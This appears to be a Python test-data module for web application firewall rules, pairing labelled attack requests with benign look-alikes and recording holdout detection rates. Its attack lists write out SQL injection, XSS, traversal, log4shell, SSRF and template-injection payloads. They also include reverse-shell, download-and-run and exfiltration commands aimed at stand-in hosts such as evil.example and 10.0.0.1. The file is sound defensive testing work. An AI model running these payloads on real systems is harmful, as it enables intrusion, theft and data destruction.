"""A labelled corpus of web attacks and benign requests for the managed rules.

Each entry is ``(label, method, target, headers, body)``; ``target`` is the
path and query as sent on the wire (already percent-encoded where a client
would encode). Attacks cover the classes the managed rules claim (SQL
injection, XSS, traversal/LFI, command injection, log4shell, shellshock,
SSRF, XXE, template injection, NoSQL, probes, scanners, protocol
anomalies), in plain and evasive spellings. Benign requests are what real
sites receive: browsing, searches with quotes and apostrophes, JSON APIs,
forms, markdown and code snippets posted in bodies.
"""

from __future__ import annotations

import json
from urllib.parse import quote

Entry = tuple[str, str, str, dict[str, str], bytes]

BROWSER = {
    "user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/124.0 Safari/537.36",
    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "accept-language": "en-US,en;q=0.9",
}
JSON_HEADERS = {**BROWSER, "content-type": "application/json", "accept": "application/json"}
FORM_HEADERS = {**BROWSER, "content-type": "application/x-www-form-urlencoded"}


def q(value: str) -> str:
    """Percent-encode a query value as a browser would."""
    return quote(value, safe="")


def _get(label: str, target: str, headers: dict[str, str] | None = None) -> Entry:
    return (label, "GET", target, {**BROWSER, **(headers or {})}, b"")


def _arg(label: str, payload: str, name: str = "q", path: str = "/search") -> Entry:
    return _get(label, f"{path}?{name}={q(payload)}")


SQLI = [
    "' OR '1'='1", "' or 1=1--", "admin'--", "1' OR '1'='1' -- ", "\" or \"\"=\"", "' or ''='",
    "1 OR 1=1", "1' AND 1=2 UNION SELECT username, password FROM users--",
    "-1 UNION ALL SELECT NULL,NULL,NULL--", "1 union select 1,2,group_concat(table_name) from information_schema.tables",
    "1'; DROP TABLE users; --", "1; waitfor delay '0:0:5'--", "1' AND SLEEP(5)#",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "' AND 1=CONVERT(int,(SELECT @@version))--",
    "1' ORDER BY 3--", "1 AND ASCII(SUBSTRING((SELECT database()),1,1))>64",
    "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users#", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "' UNION SELECT load_file('/etc/passwd')--", "1' AND extractvalue(1,concat(0x7e,version()))--",
    "'; EXEC xp_cmdshell('dir')--", "1) OR (1=1", "') or ('a'='a", "1' and benchmark(5000000,md5(1))--",
    "1 AND 1=1", "x' AND pg_sleep(5)--", "' OR 'x'='x'#", "admin' #", "1' or true--",
    "1'||(select 1 from dual)||'", "SELECT * FROM users WHERE id=1 OR 1=1",
    "1%27%20OR%20%271%27%3D%271",  # double-encoded by the attacker
    "1 uNiOn SeLeCt 1,2,3", "' union%23%0aselect 1,2--",
]
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>",
    "\"><script>alert(document.cookie)</script>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>",
    "<body onload=alert('xss')>", "<a href=\"javascript:alert(1)\">x</a>", "<ScRiPt>prompt(1)</sCrIpT>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "jav\tascript:alert(1)", "<details open ontoggle=alert(1)>", "'-alert(1)-'",
    "<input autofocus onfocus=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<div style=\"width: expression(alert(1))\">", "\";alert(String.fromCharCode(88,83,83))//",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>", "<video><source onerror=\"alert(1)\">",
    "{{constructor.constructor('alert(1)')()}}", "＜script＞alert(1)＜/script＞", "<marquee onstart=alert(1)>",
]
TRAVERSAL = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd",
    "/etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "/proc/self/environ", "php://filter/convert.base64-encode/resource=index.php",
    "file:///etc/passwd", "expect://id", "C:\\boot.ini", "../WEB-INF/web.xml",
    "..%252f..%252f..%252fetc%252fpasswd", "/var/log/apache2/access.log",
]
RCE = [
    "; cat /etc/passwd", "| id", "`id`", "$(whoami)", "&& whoami", "; wget http://evil.example/x.sh",
    "| nc 10.0.0.1 4444 -e /bin/sh", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "127.0.0.1; ls -la",
    "x;curl http://evil.example/s|sh", "; ping -c 3 evil.example", "|| sleep 10", "${IFS}cat${IFS}/etc/passwd",
    "; uname -a", "a=$(id)", "; rm -rf /", "<?php system($_GET['c']); ?>", "phpinfo()",
    "{${system('id')}}", "; python -c 'import os'", "%0Aid", "127.0.0.1 | powershell -c whoami",
]
LOG4J = [
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "${jndi:dns://evil.example}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}",
]
OTHER = [
    ("ssrf", "http://169.254.169.254/latest/meta-data/"), ("ssrf", "gopher://127.0.0.1:6379/_INFO"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
    ("ssti", "{{7*7}}"), ("ssti", "{{config.items()}}"), ("ssti", "${7*7}"),
    ("ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"), ("ssti", "<%= 7 * 7 %>"),
    ("ognl", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
    ("java", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    ("crlf", "x%0d%0aSet-Cookie:%20admin=1"),
]


# A second set, written after the signatures and first run unchanged (37/42 caught and
# 1/38 false positive at level 1 then); kept so the figures stay honest about drift.
HOLDOUT_ATTACKS = [
    "admin' or 1=1#", "1' and '1'='1", "' having 1=1--", "1 and 1=1 union select null--",
    "x' and substring(@@version,1,1)='5", "1; select pg_sleep(10)--", "' or sleep(3)='",
    "1' group by 1,2,3--", "test') union select 1,2--", "-1' union select 1,user()#",
    "<img src=\"x\" onerror=\"alert`1`\">", "<svg><script>alert(1)</script>", "\"onmouseover=\"alert(1)",
    "<a href=javas&#99;ript:alert(1)>x</a>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body background=javascript:alert(1)>", "'><img src=x:x onerror=prompt(1)>",
    "....\\....\\....\\etc\\passwd", "..%c0%af..%c0%afetc/passwd", "/etc/shadow%00",
    "file:///c:/windows/win.ini", ";id;", "|cat /etc/hosts", "$(curl http://x.example/a)", "`sleep 5`",
    "& ping -n 3 127.0.0.1 &", "%0acat%20/etc/passwd", "${jndi:rmi://x.example/a}",
    "${${upper:j}ndi:ldap://x/a}", "{{request.application.__globals__}}", "*{7*7}",
    "http://[::ffff:169.254.169.254]/", "dict://127.0.0.1:11211/stat",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://x/\">]><x>&e;</x>", "' || '1'='1", "1 or true", "admin'/*",
    "'; shutdown--", "1' waitfor delay '0:0:5'--", "\" onfocus=\"alert(1)\" autofocus=\"",
    "<script src=//evil.example/x.js></script>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
]
HOLDOUT_BENIGN = [
    "what's new", "rock & roll hall of fame", "1+1=2", "SELECT model car", "Bobby Tables", "<3 you",
    "i <3 cats", "50 cent", "don't panic", "o'neil", "smith -- jones", "a/b testing", "C:\\Users\\me",
    "~/projects", "$100 budget", "user@host:~$", "price>=10", "(555) 123-4567", "x=1;y=2", "AT&T",
    "He said \"hi\"", "https://example.com/a?b=c&d=e", "Wait... what?", "semi; colon; list",
    "hello world!!", "#blessed", "100% cotton", "foo.bar_baz-qux", "email me at a@b.co", "Ünïcödé",
    "select all", "drop me a line", "union station", "script kiddie", "onload event handler docs",
    "the alert() function", "eval vs exec", "../parent directory",
]


# A third set, written after the signatures had been revised once and first run before any
# further change (at level 1 then: 47/171 missed; of 103 benign values written, 7 flagged,
# and 2 of the 12 bodies). Six of those 7 were searches about security topics ("/bin/sh not
# found") that level 1 flags by design: they are left out. The misses stay in.
SECOND_HOLDOUT_ATTACKS = [
 # sqli
 "1' AND 1=1 AND '1'='1", "1 AND 1=2", "1' AND '1'='2", "1 or 1 like 1", "' or 'a' like 'a",
    "1' rlike (select 1)--",
    "1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(0x7e,(SELECT database()),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
 "1;SELECT/**/SLEEP(5)", "1' procedure analyse()--", "1 into outfile '/tmp/x'", "' or 1#",
 "1'%0aunion%0aselect%0a1,2", "1 UnIoN/*foo*/SeLeCt 1", "1'+union+distinct+select+1--",
 "admin')--", "') or 1=1--", "\") or (\"1\"=\"1", "1 and exists(select * from users)",
 "1' and (select count(*) from users)>0--", "1 and 1=(select 1)", "1' || pg_sleep(5)--",
 "1;exec master..xp_cmdshell 'ping 10.0.0.1'--", "-1' or 2>1--", "1' xor sleep(5)#",
 "'||(SELECT version())||'", "' AND updatexml(1,concat(0x7e,user()),1)--", "1 regexp '^a'",
 "1' and ascii(substr(user(),1,1))=114--", "' or username is not null--", "1 or 'x'='x'",
 "x' or 1=1 limit 1 -- -", "%27%20or%201%3D1--", "1' AnD 1=1#", "1' and '1'='1'/*",
 "1 union(select 1,2)", "1' union select null,null from dual--", "1 and sleep(5)",
 "\\' or 1=1--", "1/**/or/**/1=1", "1' and 1 in (select 1)--", "0x61646d696e' or 1=1",
 # xss
 "<svg onload=alert(1)>", "<img src=x onerror=confirm`1`>", "<body/onpageshow=alert(1)>",
 "<a href=\"jAvAsCrIpT:alert(1)\">", "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
 "<svg><animate onbegin=alert(1) attributeName=x>", "<img src=x oNeRrOr=alert(1)>",
    "\"><svg/onload=prompt(1)>", "<x onclick=alert(1)>click",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
 "<form action=javascript:alert(1)><input type=submit>", "<embed src=javascript:alert(1)>",
 "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "&#60;script&#62;alert(1)&#60;/script&#62;",
 "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<scr<script>ipt>alert(1)</scr</script>ipt>",
 "<img src=x onerror=\"window['al'+'ert'](1)\">", "<svg onload=top[/al/.source+/ert/.source](1)>",
 "';alert(1);//", "\";alert(1);//", "</script><script>alert(1)</script>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
 "<img src=`x` onerror=alert(1)>", "<svg/onload=location='//evil.example?c='+document.cookie>",
 "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
 "<details/open/ontoggle=alert(1)>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
 # traversal / LFI
 "..%255c..%255c..%255cwindows%255cwin.ini", "%2e%2e%5c%2e%2e%5cboot.ini", "..;/..;/etc/passwd",
 "/..%00/..%00/etc/passwd", "....//....//....//etc/passwd", "..%u2215..%u2215etc%u2215passwd",
    "..%c1%9c..%c1%9cboot.ini", "/etc/passwd%00.png", "file:/etc/passwd",
    "zip://shell.jpg%23payload.php",
 "phar://./uploads/x.jpg", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
 "c:\\windows\\system32\\drivers\\etc\\hosts", "/proc/self/cmdline", "/proc/1/environ",
 ".htaccess", "../../../../../../../../../../etc/hosts", "/root/.bash_history", "/etc/issue",
 # rce
 "127.0.0.1&&id", "127.0.0.1|whoami", "127.0.0.1%0awhoami", ";/bin/id", "|/usr/bin/id",
 "$(cat /etc/passwd)", "`cat /etc/passwd`", "; nslookup evil.example", "127.0.0.1;sleep 5",
 "|| ping -c 10 127.0.0.1", "& dir c:\\", "; ls -la /", "|type c:\\windows\\win.ini",
 "; curl -d @/etc/passwd http://evil.example", ";wget${IFS}http://evil.example/x", "$(sleep 5)",
 "`whoami`", "x||whoami", ";echo${IFS}vulnerable", "& powershell -enc SQBFAFgA", "|net user",
 "; cat$IFS/etc/passwd", "a;c'a't /etc/passwd", "; /bin/busybox wget http://x/y",
 "() { :;}; echo vulnerable", "; python3 -c 'import socket'", "127.0.0.1\nid",
 # log4j variants
    "${jndi:ldap://127.0.0.1:1389/a}", "${${lower:jndi}:${lower:ldap}://x/a}",
    "${j${::-n}di:ldap://x/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
 "${jndi:ldaps://x/a}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
 # ssrf
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://[fd00:ec2::254]/latest/",
 "http://metadata/computeMetadata/v1/", "http://0xa9fea9fe/", "http://2852039166/latest/meta-data/",
 "http://169.254.169.254.nip.io/", "http://100.100.100.200/latest/meta-data/",
 "file:///proc/self/environ", "http://0251.0376.0251.0376/", "http://instance-data/latest/",
 "http://192.0.0.192/latest/", "http://metadata.google.internal/computeMetadata/v1beta1/",
 # xxe / deserialization / ssti / misc
 "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
 "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"test\";}", "a:2:{i:0;s:1:\"a\";i:1;O:4:\"Evil\":0:{}}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "aced0005737200",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
    "!!python/object/apply:os.system ['id']",
    "{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
 "#{7*7}", "{{7*'7'}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
 "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "{php}echo `id`;{/php}",
 "__import__('os').system('id')", "require('child_process').exec('id')", "<%= system('id') %>",
    "%0d%0aLocation:%20http://evil.example", "\r\nSet-Cookie: x=1",
    "x%E5%98%8A%E5%98%8DSet-Cookie:%20x=1",
 "[$ne]=1", "{\"$gt\":\"\"}", "'; return true; var x='", "db.users.find({})",
 "<!--#exec cmd=\"/bin/ls\" -->", "<esi:include src=\"http://evil.example/\"/>",
    "(|(uid=*))", "*)(uid=*))(|(uid=*", "admin*)((|userPassword=*)",
    "//user[name/text()='a' or '1'='1']",
 "expression(alert(1))", "http://evil.example/%2e%2e%2f", "@import 'http://evil.example/x.css';",
]
SECOND_HOLDOUT_BENIGN = [
    "O'Reilly", "Rock 'n' Roll", "it's", "I'd like to select a plan", "select a plan",
    "Union Pacific railroad",
 "Drop-down menu css", "How do I delete my account?", "where to buy; what to buy", "cats & dogs",
 "pros/cons", "R&D budget", "5 > 3", "x < y and y > z", "a 'quoted' word", "don't", "1-2-3",
 "use --force flag", "git commit -m \"fix\"", "npm run build && npm test", "ls -la output meaning",
 "cat videos", "ping pong tables", "id card renewal", "who am i", "echo dot", "sleep 8 hours",
 "<3", ":) smile", "C# vs Java", "node.js fetch api", "../",
 "mysql select where", "union of sets python", "insert into table sql tutorial", "update set sql",
 "javascript tutorial", "alert(", "onload", "on error resume next",
 "passwd command linux", "win.ini", "system32 folder", "{{name}}", "${price}", "#{id}",
 "SELECT * FROM docs", "1 OR 2", "true or false", "yes or no", "null", "NaN", "undefined",
 "\"hello\" said she", "'single'", "--", "##", "/*comment*/", "a||b", "x && y", "$(document).ready",
 "<b>bold</b>", "<p>para</p>", "<br>", "2 < 3 > 1", "Bob's \"Big\" Burger", "50% off; today only",
    "http://localhost:3000/callback", "http://127.0.0.1:8080/", "http://10.0.0.1/admin panel",
    "file:report.pdf",
 "ORDER-12345", "or", "and", "Tom's & Jerry's", "L'été", "it's 100% <good>", "1' 2\" pipe",
    "SELECT a plan; then checkout", "Read the 'Terms & Conditions'", "don't -- stop",
    "he said 'or' twice",
 "what is 1=1 in sql", "drop table tennis", "exec summary", "eval(2+2)", "system design interview",
    "base64 decode online", "curl command examples", "wget vs curl", "bash scripting",
    "powershell basics",

 "jndi tutorial", "log4j vulnerability explained", "xml entity tutorial", "O:8 class", "a:2 ratio",
]
SECOND_HOLDOUT_BODIES = [
    ("application/json", b'{"q":"select a plan","note":"O\'Brien\'s \\"special\\" order; 2 > 1 && 3 < 4"}'),
    ("application/json", b'{"md":"## Setup\\n```bash\\nnpm install && npm run build\\ncurl -s https://x.example | jq .\\n```"}'),
    ("application/json", b'{"code":"SELECT id, name FROM users WHERE id = ? -- params\\nUNION ALL of results"}'),
    ("application/json", b'{"html":"<div class=\\"card\\"><img src=\\"a.png\\" alt=\\"x\\"><p>Hi</p></div>"}'),
 ("application/json", b'{"bio":"I work on /etc configs and ../relative paths; ping me!"}'),
 ("application/json", b'{"snippet":"if (a < b && c > d) { return x || y; }"}'),
 ("application/json", b'{"cmd":"ls -la; cd ..; echo done"}'),
 ("application/json", b'{"shell":"cat README.md | grep install"}'),
 ("application/json", b'{"py":"import subprocess\\nsubprocess.run([\\"ls\\"])"}'),
    ("application/x-www-form-urlencoded", b"comment=I+think+%27select%27+is+a+keyword%3B+or+is+it%3F&name=O%27Neil"),
 ("application/x-www-form-urlencoded", b"q=men%27s+%26+women%27s+shoes&sort=price+desc"),
 ("text/plain", b"Dear team, please select a plan and drop me a line. Thanks, O'Brien"),
]

# Classes added with their signatures (not a holdout): prototype pollution, UTF-7 and
# template-sandbox XSS, PHP superglobals, remote file inclusion, Windows living off the land.
ADDED_CLASS_ATTACKS = [
    "__proto__[admin]=1", "constructor[prototype][x]=1", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{$on.constructor('alert(1)')()}}", "\" onmouseover=print() x=\"", "' autofocus onfocus=alert`1` '",
    "$_GET['cmd']", "allow_url_include=1", "http://1.2.3.4/shell.txt", "http://evil.example/shell.txt?",
    "certutil -urlcache -split -f http://x/a.exe", "powershell -enc SQBFAFgA",
    "powershell.exe -NoP -c iex(new-object net.webclient)",
    "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "../.env",
    "me@example.com\r\nBcc: victim@example.com", "x\nRCPT TO: <a@b>", "INBOX\r\nA1 LOGIN admin pass",
    "a\r\n1 fetch 1:* body[]",
]
ADDED_CLASS_PATHS = ["/item/1%20union%20select%201,2", "/p/1'%20union%20select%20password%20from%20users--",
                     "/x/sleep(5)", "/s?x[__proto__][isAdmin]=true", "/%24(id)", "/%7B%7B7*7%7D%7D"]
ADDED_CLASS_BENIGN = [
    "proto type", "constructor of a class", "print()", "$5 GET 2", "http://1.2.3.4/",
    "http://example.com/a?", "certutil hash file", "powershell get-childitem", "config web",
    "my .env setup", "what is web.config", "onboarding = step 1", "it's on", "'on' =", "adw-123",
    "I'm onfire=true", "Union Select Committee", "line one\nto: be continued", "Hi,\nCc: the team",
    "first line\nsubject: ideas", "select in (select box)", "in (select cases)",
    "it's 'name' or other is null", "5 and 5 = 10", "constructor.prototype in js",
    "powershell -command help",
]

# Classes and spellings added with their signatures after the fifth set (not a holdout):
# smuggled request and status lines, more reconnaissance commands, PHP and Node code forms,
# JSFuck, PostgreSQL COPY ... PROGRAM, Oracle packages, Java gadget classes.
ADDED_LATER_ATTACKS = [
    "x%0d%0aGET /admin HTTP/1.1", "x%0d%0a%0d%0aHTTP/1.1 200 OK", ";find / -name passwd",
    ";tar cf /tmp/x /etc", ";kill -9 1", ";env", ";mkfifo /tmp/f", ";crontab -l", ";sudo -l",
    ";ps aux", "&tasklist", ";wmic process list", ";reg query HKLM",
    "powershell -nop -w hidden -c \"iex\"", "(system)('id')", "include('http://evil.example/x.txt')",
    "__halt_compiler();", "_$$ND_FUNC$$_function(){}()", "new Function('return this')()",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "1'='1", "'='", "copy t from program 'id'",
    "1 AND 5651=CTXSYS.DRITHSX.SN(5651,(CHR(113)))", "class.classLoader.URLs[0]=x",
    "x=javax.script.ScriptEngineManager", "x=org.apache.commons.collections.functors.InvokerTransformer",
]
# Evasive spellings (encodings, comments, whitespace, case, separators), added with the last
# changes; most were caught before them, a few are still missed (MySQL's %a0 as a space,
# backtick identifiers, "is not null", globbed file names).
EVASIONS = [
 "%2531%2527%2520%254f%2552%2520%2531%253d%2531", "%u0027%u0020or%u00201=1--", "1%bf%27 or 1=1--",
 "1'/**/oR/**/1=1#", "1'%0boR%0b1=1--", "1'%a0or%a01=1--", "1' oR '1'='1'--+", "1'||'1'='1",
 "1' /*!or*/ 1=1--", "-1'/*!50000union*/+/*!50000select*/+1,2--", "1' and(1)=(1)--", "1'and'1'='1",
 "1`or`1`=`1", "admin\"--", "admin\" or \"1\"=\"1", "' or 0x31=0x31--", "' or true#", "1 or 1 is not null",
 "%3Csvg%2Fonload%3Dalert%281%29%3E", "%253Csvg%2520onload%253Dalert(1)%253E", "<sVg OnLoAd=alert(1)>",
 "<img src=x oNerror=alert`1`>", "<svg\nonload=alert(1)>", "<svg\tonload=alert(1)>", "<svg/onload=confirm(1)>",
 "<img src=\"x\"onerror=\"alert(1)\">", "<a/href=\"j&#97;vascript:alert(1)\">x</a>", "<iframe/src=\"jav&#x0A;ascript:alert(1)\">",
 "\"autofocus/onfocus=alert(1)//", "'onmouseover='alert(1)'", "<script\x20type=\"text/javascript\">alert(1)</script>",
 "<scr\x00ipt>alert(1)</scr\x00ipt>", "<%73cript>alert(1)</script>", "<ScRiPt SrC=//x.example/a></sCrIpT>",
 "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5c..%5c..%5cwindows%5cwin.ini",
 "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%u2216..%u2216windows%u2216win.ini", "....\\\\....\\\\etc\\\\passwd",
 "/etc/./passwd", "/etc//passwd", "/./etc/passwd", "/etc/passwd#", "file:%2F%2F%2Fetc%2Fpasswd",
 ";%20cat%20/etc/passwd", "%3Bid", "%7Cid", "%60id%60", "%24%28id%29", "; c''at /e??/p??swd", ";c\\a\\t /etc/passwd",
 ";cat</etc/passwd", "|cat${IFS%??}/etc/passwd", ";$(printf '\\x69\\x64')", "a;{ls,-la}", "&&whoami", "||whoami",
 "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "${jNdI:LdAp://x/a}", "${${lower:${lower:jndi}}:${lower:ldap}://x/a}",
 "${::-$}{jndi:ldap://x/a}", "$%7Bjndi:ldap://x/a%7D",
]
ADDED_LATER_BENIGN = [
    "public int Id { get; set; }", "art; history; science", "set; reset; go", "ps aux explained",
    "find / -name file linux", "kill -9 meaning", "env vars in docker", "tar cf vs tar czf",
    "new Function() in JavaScript", "process.env.NODE_ENV", "global.process in node",
    "GET /api/items HTTP/1.1 example", "HTTP/1.1 200 OK meaning", "1=1", "a = 'b'",
    "regexp tutorial", "rlike vs like", "db.collection.find() docs", "$gt operator mongodb",
]


# One line of code, SQL or HTML, as posted in a body field of a forum, a CMS or an editor.
# Level 1 matches body fields with the argument signatures that such lines do not set off
# (see _CODE_PRONE in _signatures.py); the ones flagged here are flagged by the body
# signatures too (CODE_SNIPPETS_FLAGGED), as they were before body fields were matched so.
CODE_SNIPPETS = [
    '<script src="https://cdn.example.com/app.js"></script>', "SELECT id FROM a UNION SELECT id FROM b",
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5z"/></svg>',
    "if (ok) { alert('Saved!'); }", "document.getElementById('x').innerHTML = html;", "os.system('clear')",
    "eval(input())", "cd app; rm -rf build", "SELECT name FROM users WHERE id = 1 OR 1 = 1",
    "SELECT * FROM information_schema.tables", "import os; os.system('ls')", "window.location = '/home';",
    "<a href=\"javascript:void(0)\" onclick=\"toggle()\">Menu</a>", "<img src=\"a.png\" onerror=\"this.src='b.png'\">",
    "$(document).ready(function() { $('#x').hide(); });", "echo $HOME; ls -la", "exec('print(1)')",
    "Runtime.getRuntime().exec(cmd);", "<?php echo $title; ?>", "{{ user.name }} - {{ 7 * 7 }}",
    "for f in *.txt; do cat $f; done", "<math><mi>x</mi></math>", "const fn = new Function('a', 'return a');",
    "<embed src=\"doc.pdf\" type=\"application/pdf\">", "<base href=\"/\">", "<meta charset=\"utf-8\">",
    "<object data=\"movie.swf\"></object>", "SELECT SLEEP(1);", "WAITFOR DELAY '00:00:01'", "x = `ls`",
    "print(f'{x!r}')", "phpinfo();", "find . -name '*.py' | xargs wc -l", "ping -c 4 example.com",
    "git log --oneline | head", "<style>@import url('https://fonts.googleapis.com/css?family=Roboto');</style>",
    "<link rel=\"stylesheet\" href=\"style.css\">", "<form action=\"/search\"><input name=q></form>",
    "ORDER BY 2 DESC", "DROP TABLE IF EXISTS tmp;", "; DROP TABLE tmp;", "$_GET['page'] ?? 'home'",
    "db.users.find({ age: { $gt: 18 } })", "this.items.length > 0", "require('fs').readFileSync(p)",
]
CODE_SNIPPETS_FLAGGED = {
    "SELECT name FROM users WHERE id = 1 OR 1 = 1", "<a href=\"javascript:void(0)\" onclick=\"toggle()\">Menu</a>",
    "<img src=\"a.png\" onerror=\"this.src='b.png'\">", "$(document).ready(function() { $('#x').hide(); });",
    "Runtime.getRuntime().exec(cmd);", "{{ user.name }} - {{ 7 * 7 }}", "WAITFOR DELAY '00:00:01'",
    "; DROP TABLE tmp;", "db.users.find({ age: { $gt: 18 } })",
}


def code_snippets() -> list[Entry]:
    """Return CODE_SNIPPETS as a JSON field and as a form field."""
    return [_located("snippet", value, where) for value in CODE_SNIPPETS for where in ("json", "form")]


def attacks() -> list[Entry]:
    """Return the attack requests."""
    out: list[Entry] = [_arg("holdout", payload, "q", "/s") for payload in HOLDOUT_ATTACKS]
    out += [_arg("holdout2", payload, "q", "/s") for payload in SECOND_HOLDOUT_ATTACKS]
    out += [_arg("added", payload, "q", "/s") for payload in ADDED_CLASS_ATTACKS]
    out += [_get("added", target) for target in ADDED_CLASS_PATHS]
    # Struts2 OGNL in Content-Type (S2-045) and a Commons Text lookup (text4shell).
    out.append(("added", "POST", "/upload.action", {**BROWSER, "content-type":
                "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"
                ".(#cmd='id')}"}, b"x"))
    out.append(_arg("added", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"))
    for payload in SECOND_HOLDOUT_ATTACKS[::7]:
        out.append(("holdout2", "POST", "/api/run", JSON_HEADERS,
                    json.dumps({"value": payload}).encode()))
    for payload in SQLI:
        out.append(_arg("sqli", payload, "id", "/products"))
    for payload in SQLI[:12]:
        out.append(("sqli", "POST", "/login", FORM_HEADERS,
                    f"user={q(payload)}&password=x".encode()))
    for payload in SQLI[5:15]:
        out.append(("sqli", "POST", "/api/items", JSON_HEADERS,
                    json.dumps({"filter": payload}).encode()))
    out.append(_get("sqli", "/products", {"cookie": f"session=abc; tracking={q(SQLI[1])}"}))
    out.append(_get("sqli", "/", {"user-agent": "' OR 1=1 --"}))
    for payload in XSS:
        out.append(_arg("xss", payload))
    for payload in XSS[:10]:
        out.append(("xss", "POST", "/comments", FORM_HEADERS, f"comment={q(payload)}".encode()))
    out.append(_get("xss", "/", {"referer": "https://x.example/?q=<script>alert(1)</script>"}))
    out.append(_get("xss", "/search?q=" + q(q("<script>alert(1)</script>"))))
    for payload in TRAVERSAL:
        out.append(_arg("lfi", payload, "file", "/download"))
    for raw in ("/../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
                "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/images/..\\..\\windows\\win.ini",
                "/files/%252e%252e/%252e%252e/etc/passwd", "/index.php%00.jpg"):
        out.append(_get("lfi", raw))
    for payload in RCE:
        out.append(_arg("rce", payload, "host", "/ping"))
    for payload in RCE[:8]:
        out.append(("rce", "POST", "/api/run", JSON_HEADERS,
                    json.dumps({"host": "127.0.0.1" + payload}).encode()))
    out.append(_get("shellshock", "/cgi/status", {"user-agent": "() { :; }; /bin/bash -c 'id'"}))
    out.append(_get("shellshock", "/", {"referer": "() { ignored; }; echo; /bin/cat /etc/passwd"}))
    for payload in LOG4J:
        out.append(_get("log4shell", "/", {"user-agent": payload}))
        out.append(_get("log4shell", "/", {"x-api-version": payload}))
        out.append(_arg("log4shell", payload, "q"))
    for label, payload in OTHER:
        out.append(_arg(label, payload, "url" if label == "ssrf" else "name"))
    out.append(("xxe", "POST", "/api/import", {**BROWSER, "content-type": "application/xml"},
                b'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                b"<foo>&xxe;</foo>"))
    out.append(("xxe", "POST", "/soap", {**BROWSER, "content-type": "text/xml"},
                b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>'))
    out.append(_get("nosql", "/login?user=admin&password[$ne]=x"))
